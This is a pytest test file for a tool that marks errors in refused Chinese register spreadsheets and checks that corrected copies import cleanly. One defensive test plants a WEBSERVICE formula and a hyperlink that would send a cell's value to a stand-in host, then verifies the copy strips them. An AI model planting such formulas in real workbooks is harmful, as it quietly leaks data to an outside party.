"""A refused file comes back with every mistake marked where it stands, to be corrected and imported as it is."""

from __future__ import annotations

import gc
import stat
from datetime import date
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from corpus.files import COVER, HEAD, ONE, TWO, as_csv, as_xlsx, merged
from corpus.packages import xlsx
from corpus.xls import xls
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet import _writer
from openpyxl.worksheet.datavalidation import DataValidation
from xlsxwriter.exceptions import FileCreateError

from gktools.errors import GktoolsError
from gktools.registers.intake import marking
from gktools.registers.intake.marking import LIST, write_marked_copy
from gktools.registers.intake.reading import read_file
from gktools.registers.intake.templates import TemplateSheet, template_sheets, write_workbook

WRONG = ["甲1", "2024-02-30", "自燃人", "2024-03-20", "予以公开"]
ROWS = [*COVER, HEAD, WRONG, TWO, ["甲2", *ONE[1:]]]
RED = "FFFFA7A7"


def find_office(name: str) -> str:
    return "minzheng" if name == "示例市民政局" else name


def refused(path: Path):
    said = read_file(path, find_office)
    sheets, problems = said.sheets, said.problems
    assert sheets == ()
    return problems


def marked(path: Path) -> dict[str, str]:
    """The cells of the copy's second sheet that are coloured, with the note on each."""
    page = openpyxl.load_workbook(path).worksheets[1]
    found = {}
    for row in page.iter_rows():
        for cell in row:
            if cell.fill.fgColor.rgb == RED:
                found[cell.coordinate] = cell.comment.text
    return found


@pytest.mark.parametrize(
    ("suffix", "content"),
    [("xlsx", as_xlsx(ROWS)), ("csv", as_csv(ROWS)), ("csv", as_csv(ROWS, "gb18030")), ("xls", xls(("登记", ROWS)))],
    ids=["xlsx", "csv", "gb18030", "xls"],
)
def test_every_mistake_is_marked_in_its_cell_and_listed(tmp_path, suffix, content):
    path = tmp_path / f"登记.{suffix}"
    path.write_bytes(content)
    copy = write_marked_copy(path, refused(path))

    assert copy == tmp_path / "登记（标错）.xlsx"
    found = marked(copy)
    assert set(found) == {"B5", "C5", "A7"}
    assert "没有这一天" in found["B5"]
    assert "是不是“自然人”？" in found["C5"]
    assert "与第 6 行重复" in found["A7"]
    cells = [row[0] for row in openpyxl.load_workbook(copy)[LIST].iter_rows()]
    listed = [cell.value for cell in cells]
    assert len(listed) == 5
    assert all(cell.alignment.wrap_text for cell in cells)
    assert "第 5 行 “收到申请之日”列：没有这一天" in listed[2]


@pytest.mark.parametrize(
    ("suffix", "content"),
    [("xlsx", as_xlsx(ROWS)), ("csv", as_csv(ROWS)), ("xls", xls(("登记", ROWS)))],
    ids=["xlsx", "csv", "xls"],
)
def test_the_copy_corrected_where_it_is_red_is_imported_as_it_is(tmp_path, suffix, content):
    path = tmp_path / f"登记.{suffix}"
    path.write_bytes(content)
    copy = write_marked_copy(path, refused(path))
    book = openpyxl.load_workbook(copy)
    page = book.worksheets[1]
    page["B5"], page["C5"], page["A7"] = "2024-02-29", "自然人", "甲3"
    book.save(copy)

    said = read_file(copy, find_office)
    (sheet,), problems = said.sheets, said.problems

    assert problems == ()
    assert list(sheet.columns["number"]) == ["甲1", "甲2", "甲3"]
    assert sheet.lines == (5, 6, 7)
    assert sheet.columns["received_on"][0] == date(2024, 2, 29)


def test_a_copy_corrected_in_part_is_marked_anew_and_not_written_over(tmp_path):
    path = tmp_path / "登记.xlsx"
    path.write_bytes(as_xlsx(ROWS))
    first = write_marked_copy(path, refused(path))
    book = openpyxl.load_workbook(first)
    book.worksheets[1]["B5"] = "2024-02-29"
    book.save(first)
    before = first.read_bytes()

    second = write_marked_copy(first, refused(first))

    assert (second.name, first.read_bytes()) == ("登记（标错2）.xlsx", before)
    assert set(marked(second)) == {"C5", "A7"}
    assert openpyxl.load_workbook(second).sheetnames == [LIST, "登记"]


def test_the_clerks_own_formatting_and_notes_stay(tmp_path):
    path = tmp_path / "登记.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    for row in ROWS:
        page.append(row)
    page["A4"].font, page["B5"].comment = Font(bold=True, name="仿宋"), Comment("问过本人", "经办")
    page["E5"].fill = PatternFill("solid", fgColor="FF00FF00")
    page.column_dimensions["B"].width = 33
    page["F5"] = "=1+1"
    page["F4"] = "备忘"
    book.save(path)
    copy = openpyxl.load_workbook(write_marked_copy(path, refused(path))).worksheets[1]

    assert (copy["A4"].font.name, copy["A4"].font.bold, copy.column_dimensions["B"].width) == ("仿宋", True, 33)
    assert copy["E5"].fill.fgColor.rgb == "FF00FF00"
    assert copy["B5"].comment.text.startswith("问过本人\n")
    assert not any(cell.data_type == "f" for row in copy.iter_rows() for cell in row)


def test_a_mistake_under_merged_cells_is_marked_on_them(tmp_path):
    path = tmp_path / "登记.xlsx"
    rows = [*COVER, HEAD[:3], ["甲1", *ONE[1:3]], ["甲2", "", "自然人"]]
    path.write_bytes(as_xlsx(("登记", rows, merged(("B5:B6", "2024-03-01")))))

    assert list(marked(write_marked_copy(path, refused(path)))) == ["B5"]


def test_a_template_filled_in_wrongly_keeps_its_lists_and_notes(tmp_path):
    path = tmp_path / "登记.xlsx"
    blank = template_sheets("示例市民政局", 2024)[0]
    row = {"number": "1", "received_on": date(2024, 3, 5), "applicant": "自燃人"}
    write_workbook(path, [TemplateSheet(blank.register, "示例市民政局", 2024, [row])])
    copy = openpyxl.load_workbook(write_marked_copy(path, refused(path)))
    page = copy[blank.register.label]

    place = next(cell.coordinate for cell in page[7] if cell.value == "自燃人")
    assert page[place].fill.fgColor.rgb == RED
    assert page.data_validations.count > 5
    assert page["B5"].comment.text
    assert page.freeze_panes


def test_nothing_that_computes_or_leads_elsewhere_is_left_in_the_copy(tmp_path):
    path = tmp_path / "登记.xlsx"
    book = openpyxl.Workbook()
    page = book.active
    for row in ROWS:
        page.append(row)
    call = 'WEBSERVICE("http://a.example/"&B5)'
    book.defined_names["甲"] = DefinedName("甲", attr_text=call)
    page.defined_names["乙"] = DefinedName("乙", attr_text=call)
    page.conditional_formatting.add("A1:B9", FormulaRule(formula=[call], fill=PatternFill("solid", fgColor="FF00FF00")))
    for cells, formula in (("C5", f"={call}"), ("C6", '"自然人,商业(企业)"'), ("C7", "=$A$1:$A$3")):
        page.add_data_validation(DataValidation("list", formula, sqref=cells))
    page["A5"].hyperlink = "http://a.example/"
    book.save(path)
    copy = write_marked_copy(path, refused(path))
    with ZipFile(copy) as parts:
        content = b"".join(parts.read(name) for name in parts.namelist())

    assert b"WEBSERVICE" not in content
    assert b"a.example" not in content
    kept = openpyxl.load_workbook(copy).worksheets[1].data_validations.dataValidation
    assert [str(rule.sqref) for rule in kept] == ["C6", "C7"]


def test_what_is_written_before_the_copy_lies_where_the_next_process_tidies(tmp_path, monkeypatch):
    made = []
    known = _writer.create_temporary_file
    monkeypatch.setattr(_writer, "create_temporary_file", lambda: made.append(known()) or made[-1])
    path = tmp_path / "登记.xlsx"
    path.write_bytes(as_xlsx(ROWS))
    write_marked_copy(path, refused(path))

    assert made
    assert {Path(one).parent.name[:8] for one in made} == {"gktools-"}


def test_the_copy_is_for_its_owner_only_and_nothing_else_is_left_behind(tmp_path):
    path = tmp_path / "登记.csv"
    path.write_bytes(as_csv(ROWS))
    copy = write_marked_copy(path, refused(path))

    assert stat.S_IMODE(copy.stat().st_mode) == 0o600
    assert sorted(found.name for found in tmp_path.iterdir()) == ["登记.csv", "登记（标错）.xlsx"]


def test_a_link_under_the_name_of_the_copy_is_not_followed(tmp_path):
    path, secret = tmp_path / "登记.csv", tmp_path / "别的.txt"
    path.write_bytes(as_csv(ROWS))
    secret.write_text("不要动", encoding="utf-8")
    (tmp_path / "登记（标错）.xlsx").symlink_to(secret)

    assert write_marked_copy(path, refused(path)).name == "登记（标错2）.xlsx"
    assert secret.read_text(encoding="utf-8") == "不要动"


def test_an_earlier_copy_is_never_written_over(tmp_path):
    path = tmp_path / "登记.csv"
    path.write_bytes(as_csv(ROWS))
    copies = [write_marked_copy(path, refused(path)) for _ in range(3)]
    copies.append(write_marked_copy(copies[0], refused(copies[0])))

    assert [copy.stem for copy in copies] == ["登记（标错）", "登记（标错2）", "登记（标错3）", "登记（标错4）"]


def test_where_the_folder_cannot_be_written_the_copy_goes_to_the_current_one(tmp_path, monkeypatch):
    path = tmp_path / "只读" / "登记.csv"
    path.parent.mkdir()
    path.write_bytes(as_csv(ROWS))
    problems = refused(path)
    real = marking.write_whole

    def only_here(target, *given):
        if target.parent == path.parent:
            raise PermissionError(13, "no")
        return real(target, *given)

    monkeypatch.setattr(marking, "write_whole", only_here)
    (tmp_path / "这里").mkdir()
    monkeypatch.chdir(tmp_path / "这里")

    assert write_marked_copy(path, problems).resolve() == tmp_path / "这里" / "登记（标错）.xlsx"


def test_a_workbook_too_large_for_its_formatting_is_marked_by_its_values(tmp_path, monkeypatch):
    monkeypatch.setattr(marking, "_SMALL", 100)
    path = tmp_path / "登记.xlsx"
    path.write_bytes(as_xlsx(("登记", ROWS, None), ("说明", [["=1+1"]], None)))
    copy = write_marked_copy(path, refused(path))

    assert set(marked(copy)) == {"B5", "C5", "A7"}
    assert openpyxl.load_workbook(copy)["说明"]["A1"].data_type == "s"


def test_a_formula_without_a_result_is_marked_and_left_empty(tmp_path):
    path = tmp_path / "登记.xlsx"
    path.write_bytes(xlsx([*COVER, HEAD[:4], ["甲1", "2024-03-01", "自然人", "<c><f>B5+19</f></c>"]]))
    copy = write_marked_copy(path, refused(path))

    assert "没有存下结果" in marked(copy)["D5"]
    assert openpyxl.load_workbook(copy).worksheets[1]["D5"].value is None


def test_personal_values_stand_in_the_copy_but_not_in_its_notes(tmp_path):
    path = tmp_path / "登记.csv"
    rows = [*COVER, [*HEAD[:3], "申请人名称"], [*ONE[:2], "自燃人", "示例\x07人"]]
    path.write_bytes(as_csv(rows))
    copy = write_marked_copy(path, refused(path))

    said = " ".join(marked(copy).values()) + " ".join(
        str(row[0].value) for row in openpyxl.load_workbook(copy)[LIST].rows
    )
    assert "示例" not in said.replace("示例市", "")
    assert openpyxl.load_workbook(copy).worksheets[1]["D5"].value == "示例□人"


def test_days_and_numbers_stay_days_and_numbers_in_a_copy_of_values(tmp_path):
    path = tmp_path / "登记.xls"
    path.write_bytes(
        xls(("登记", [*COVER, HEAD[:3], ["007", date(2024, 3, 5), "自燃人"], [7, date(1850, 1, 1), True]]))
    )
    page = openpyxl.load_workbook(write_marked_copy(path, refused(path))).worksheets[1]

    assert (page["A5"].value, page["A6"].value, page["B5"].value.date()) == ("007", 7, date(2024, 3, 5))


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # the writer's own drafts
def test_a_copy_that_cannot_be_written_anywhere_is_told_in_chinese(tmp_path, monkeypatch):
    def full(*_, **__):
        raise FileCreateError(OSError(28, "No space left on device"))

    path = tmp_path / "登记.csv"
    path.write_bytes(as_csv(ROWS))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("xlsxwriter.Workbook.close", full)

    with pytest.raises(GktoolsError, match="标错文件写不出来"):
        write_marked_copy(path, refused(path))
    gc.collect()
    assert [found.name for found in tmp_path.iterdir()] == ["登记.csv"]
